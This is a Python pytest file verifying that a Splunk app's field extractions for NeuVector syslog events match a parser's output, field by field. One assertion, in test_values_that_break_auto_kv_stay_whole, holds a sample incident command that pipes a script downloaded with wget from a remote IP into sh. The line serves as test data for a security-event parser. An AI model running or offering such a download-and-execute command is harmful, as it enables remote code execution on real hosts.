"""The app's props/transforms give the parser's field values, on every reference sample.

Each syslog sample (text mode, JSON mode, pod-log lines, the docs' legacy
lines) goes through what Splunk does with ``neuvector:syslog``: line
breaking, timestamp, host and the index-time split into
``neuvector:<notification>``; then the search-time extractions of that
sourcetype. The fields must equal ``nvparser.parse_frame``'s record, field
by field, as Splunk represents it: strings as they are, numbers and booleans
as NeuVector prints them, lists and maps as multivalue fields (empty ones
unset). The same record written as JSON by the modular input or the HEC
sink must give the same fields under the same sourcetype.
"""
import pytest

import nvparser
from nvparser import Parser, Record, schema
from helpers.nvsamples import load_samples
from helpers.splunk_package import ROOT, splunk_script
from helpers.splunk_sim import App

gen_conf = splunk_script("gen_conf")
APP = App(ROOT / "splunk_app" / "neuvector_siem")
SYSLOG_SAMPLES = [s for s in load_samples() if s.mode in ("text", "json", "podlog")]
SYSLOG_PARTS = ("pri", "facility", "severity", "version", "timestamp", "hostname", "app_name", "procid", "msgid")


def splunk_value(value):
    """A record value as Splunk holds it: a list of strings (multivalue) or None (unset)."""
    if value is None:
        return None
    if isinstance(value, bool):
        return ["true" if value else "false"]
    if isinstance(value, float):
        return [str(int(value)) if value.is_integer() else repr(value)]
    if isinstance(value, int):
        return [str(value)]
    if isinstance(value, list):
        items = [v for v in value if v != ""]
        return items or None
    if isinstance(value, dict):
        return ["%s:%s" % item for item in value.items()] or None
    return [value]


def _numeric(fields: dict, notification: str) -> dict:
    """Floats compared as numbers: a record's JSON says 10.0 where NeuVector's text says 10."""
    floats = schema.typed_keys(notification, "float")
    return {k: [float(x) for x in v] if k in floats else v for k, v in fields.items()}


def expected_fields(data: dict) -> dict:
    known = {f.name for f in schema.FIELDS[data["notification"]]} | {"notification"}
    out = {k: splunk_value(v) for k, v in data.items() if k in known}
    for part in SYSLOG_PARTS:
        out["syslog_" + part] = splunk_value((data.get("syslog") or {}).get(part))
    return _numeric({k: v for k, v in out.items() if v is not None}, data["notification"])


def compared(fields: dict, data: dict) -> dict:
    """The extracted fields that stand for record fields (helpers like nv_* left out)."""
    known = {f.name for f in schema.FIELDS[data["notification"]]} | {"notification"}
    known |= {"syslog_" + p for p in SYSLOG_PARTS}
    return _numeric({k: v for k, v in fields.items() if k in known}, data["notification"])


def record_fields(sourcetype: str, raw: str) -> dict:
    """Search-time fields from the generated extractions only (the CIM layer left out, also where a
    hand-written EVAL takes over a field's decoding, as the incident ``action`` does)."""
    notification = sourcetype.split(":", 1)[1]
    generated = gen_conf.extraction(notification)[0][sourcetype]
    props = APP.props[sourcetype]
    targets = {t for t in [f.name for f in schema.FIELDS[notification]] + ["syslog_" + p for p in SYSLOG_PARTS]
               if props.get("EVAL-" + t) == generated.get("EVAL-" + t)}
    return APP.search_fields(sourcetype, raw, eval_targets=targets, lookups={"nv_syslog"})


def splunk_events(sample):
    """(raw event, sourcetype) as Splunk indexes the sample sent to a neuvector:syslog input."""
    text = sample.stream.decode("utf-8")
    for raw in APP.break_events("neuvector:syslog", text):
        meta = APP.index_time_metadata("neuvector:syslog", raw)
        yield raw, meta


@pytest.mark.parametrize("sample", SYSLOG_SAMPLES, ids=lambda s: s.id)
def test_line_breaking_gives_the_parsers_frames(sample):
    parser = Parser()
    records = [e for e in parser.feed(sample.stream) + parser.close() if isinstance(e, Record)]
    events = [raw for raw, _ in splunk_events(sample)]
    assert [r.raw.decode("utf-8") for r in records] == events


@pytest.mark.parametrize("sample", SYSLOG_SAMPLES, ids=lambda s: s.id)
def test_index_time_time_host_and_sourcetype(sample):
    for raw, meta in splunk_events(sample):
        data = nvparser.parse_frame(raw.encode("utf-8")).data
        assert meta["sourcetype"] == "neuvector:" + data["notification"]
        assert APP.event_time("neuvector:syslog", raw) == data["reported_timestamp"]
        hostname = (data.get("syslog") or {}).get("hostname")
        assert meta["host"] == hostname


@pytest.mark.parametrize("sample", SYSLOG_SAMPLES, ids=lambda s: s.id)
def test_raw_syslog_fields_equal_the_parsers(sample):
    for raw, meta in splunk_events(sample):
        data = nvparser.parse_frame(raw.encode("utf-8")).data
        fields = record_fields(meta["sourcetype"], raw)
        assert compared(fields, data) == expected_fields(data)


@pytest.mark.parametrize("sample", SYSLOG_SAMPLES, ids=lambda s: s.id)
def test_record_json_fields_equal_the_parsers(sample):
    """What the modular input and the HEC sink index: the record as JSON."""
    for raw, _ in splunk_events(sample):
        data = nvparser.parse_frame(raw.encode("utf-8")).data
        sourcetype = "neuvector:" + data["notification"]
        document = nvparser.json_dumps(data).decode("utf-8")
        assert APP.event_time(sourcetype, document) == data["reported_timestamp"]
        fields = record_fields(sourcetype, document)
        assert compared(fields, data) == expected_fields(data)


def test_values_that_break_auto_kv_stay_whole():
    """The official app's auto-KV cut these at the first space or comma."""
    by_id = {s.id: s for s in SYSLOG_SAMPLES}

    def fields(sample_id):
        (raw, meta), = splunk_events(by_id[sample_id])
        return record_fields(meta["sourcetype"], raw)

    assert fields("docs-incident-legacy")["message"] == ["Process profile violation"]
    assert fields("docs-incident-legacy")["proc_cmd"] == ["curl google.com"]
    assert fields("threat-text-1")["message"] == ["SQL Injection, application=2001"]
    assert fields("threat-text-1")["application"] == ["MySQL"]
    assert fields("threat-text-3")["group"] == ["nv.checkout.shop,nv.frontend.shop"]
    assert fields("incident-text-1")["proc_cmd"] == ["sh -c wget -qO- http://198.51.100.7/x.sh?arch=amd64,os=linux | sh"]
    assert fields("audit-text-6")["workload_image"] == ["docker.io/library/nginx:1.25, docker.io/library/redis:7.2"]
    assert len(fields("audit-text-1")["medium_vuls"]) > 200
    assert fields("audit-text-5")["items"][1] == "D.5.12 WARN - Ensure that the container's root filesystem is mounted as read only"
    assert fields("event-text-2")["user_roles"] == [":reader", "dev:admin", "shop:admin"]
    assert "fqdn" in fields("violation-text-2") and fields("violation-text-2")["fqdn"] == [""]
    assert "applications" not in fields("violation-text-2")
    assert fields("audit-json-7")["message"][0].startswith("<Server Dry Run> Creation")


def test_truncate_keeps_the_longest_sample():
    longest = max(len(line) for s in SYSLOG_SAMPLES for line in s.lines)
    for sourcetype in ["neuvector:syslog"] + ["neuvector:" + n for n in schema.NOTIFICATIONS]:
        assert int(APP.props[sourcetype]["TRUNCATE"]) >= 64 * longest
